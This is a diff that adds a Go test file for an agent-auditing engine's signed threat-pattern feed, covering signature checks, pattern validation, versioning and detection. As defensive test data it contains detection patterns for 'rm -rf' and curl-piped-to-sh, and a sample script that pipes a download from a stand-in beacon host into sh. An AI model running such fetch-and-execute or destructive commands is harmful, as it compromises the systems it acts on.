@@ -0,0 +1,102 @@
+package aegong
+
+import (
+	"bytes"
+	"context"
+	"crypto/ed25519"
+	"crypto/rand"
+	"encoding/base64"
+	"strings"
+	"testing"
+)
+
+// signFeed signs a feed the way cosign sign-blob does with an Ed25519 key
+func signFeed(key ed25519.PrivateKey, feed string) []byte {
+	return []byte(base64.StdEncoding.EncodeToString(ed25519.Sign(key, []byte(feed))))
+}
+
+// TestParsePatternFeed tests that only feeds signed by the configured key are parsed
+func TestParsePatternFeed(t *testing.T) {
+	public, private, _ := ed25519.GenerateKey(rand.Reader)
+	otherPublic, _, _ := ed25519.GenerateKey(rand.Reader)
+	feed := `{"version":3,"patterns":[{"id":"p1","vector":"T4","pattern":"rm -rf","severity":"high"}]}`
+
+	parsed, err := ParsePatternFeed([]byte(feed), signFeed(private, feed), public)
+	if err != nil || parsed.Version != 3 || len(parsed.Patterns) != 1 || parsed.checksum == "" {
+		t.Fatalf("Should parse a signed feed, got %+v (%v)", parsed, err)
+	}
+	if _, err := ParsePatternFeed([]byte(feed), ed25519.Sign(private, []byte(feed)), public); err != nil {
+		t.Fatalf("Should accept a raw signature: %v", err)
+	}
+
+	tampered := strings.Replace(feed, "high", "low", 1)
+	if _, err := ParsePatternFeed([]byte(tampered), signFeed(private, feed), public); err == nil {
+		t.Fatal("Should refuse a feed changed after signing")
+	}
+	if _, err := ParsePatternFeed([]byte(feed), signFeed(private, feed), otherPublic); err == nil {
+		t.Fatal("Should refuse a feed signed by another key")
+	}
+	unversioned := `{"patterns":[]}`
+	if _, err := ParsePatternFeed([]byte(unversioned), signFeed(private, unversioned), public); err == nil {
+		t.Fatal("Should refuse a feed without a version")
+	}
+}
+
+// TestApplyPatternFeed tests that feed patterns are detected, recorded in reports and only replaced by newer feeds
+func TestApplyPatternFeed(t *testing.T) {
+	engine := newTestEngine(t)
+	feed := &PatternFeed{Version: 2, checksum: "abc", Patterns: []FeedPattern{
+		{ID: "beacon", Vector: "t4", Pattern: "beacon.example.net", Severity: "high"},
+		{ID: "stager", Vector: "T4", Pattern: `re:curl\s+\S+\s*\|\s*sh`, Severity: "critical", Confidence: 0.6},
+		{ID: "unused", Vector: "T2", Pattern: "never matches this", Severity: "low"},
+	}}
+
+	for _, invalid := range []FeedPattern{
+		{ID: "x", Vector: "T42", Pattern: "x", Severity: "low"},
+		{ID: "x", Vector: "T4", Pattern: "re:(", Severity: "low"},
+		{ID: "x", Vector: "T4", Pattern: "x", Severity: "severe"},
+		{ID: "beacon", Vector: "T4", Pattern: "x", Severity: "low"},
+	} {
+		bad := &PatternFeed{Version: 1, Patterns: append(append([]FeedPattern{}, feed.Patterns[:1]...), invalid)}
+		if _, err := engine.ApplyPatternFeed(bad, "test"); err == nil {
+			t.Errorf("Should refuse the pattern %+v", invalid)
+		}
+	}
+	if engine.PatternFeed() != nil {
+		t.Fatal("Should not apply a refused feed")
+	}
+
+	before := engine.Ruleset()
+	info, err := engine.ApplyPatternFeed(feed, "https://feeds.example.com/aegong.json")
+	if err != nil || info.Version != 2 || info.Patterns != 3 || info.Checksum != "abc" {
+		t.Fatalf("Should apply the feed, got %+v (%v)", info, err)
+	}
+	if ruleset := engine.Ruleset(); ruleset.Version == before.Version || ruleset.Options["pattern_feed"] != "2" {
+		t.Fatalf("Should number a new ruleset with the feed version, got %+v", ruleset)
+	}
+
+	agent := []byte("#!/bin/sh\ncurl https://beacon.example.net/x | sh\n")
+	report, err := engine.Audit(context.Background(), bytes.NewReader(agent))
+	if err != nil {
+		t.Fatalf("Failed to audit agent: %v", err)
+	}
+	if report.PatternFeed == nil || report.PatternFeed.Version != 2 || report.PatternFeed.Source != "https://feeds.example.com/aegong.json" {
+		t.Fatalf("Should record the feed in the report, got %+v", report.PatternFeed)
+	}
+	var found *ThreatDetection
+	for i, threat := range report.Threats {
+		if threat.Details["analysis"] == "pattern_feed" && threat.Location != nil && threat.Location.Line == 2 {
+			found = &report.Threats[i]
+		}
+	}
+	if found == nil || found.Vector != T4_UNAUTHORIZED_ACTION || found.Severity != CRITICAL || found.Confidence != 1.0 || len(found.Evidence) != 2 {
+		t.Fatalf("Should report both T4 patterns as one CRITICAL finding, got %+v", found)
+	}
+
+	if _, err := engine.ApplyPatternFeed(&PatternFeed{Version: 2}, "test"); err == nil {
+		t.Fatal("Should refuse a feed that is not newer")
+	}
+	if _, err := engine.ApplyPatternFeed(&PatternFeed{Version: 3}, "test"); err != nil || engine.PatternFeed().Patterns != 0 {
+		t.Fatalf("Should replace the feed with a newer one, got %+v (%v)", engine.PatternFeed(), err)
+	}
+}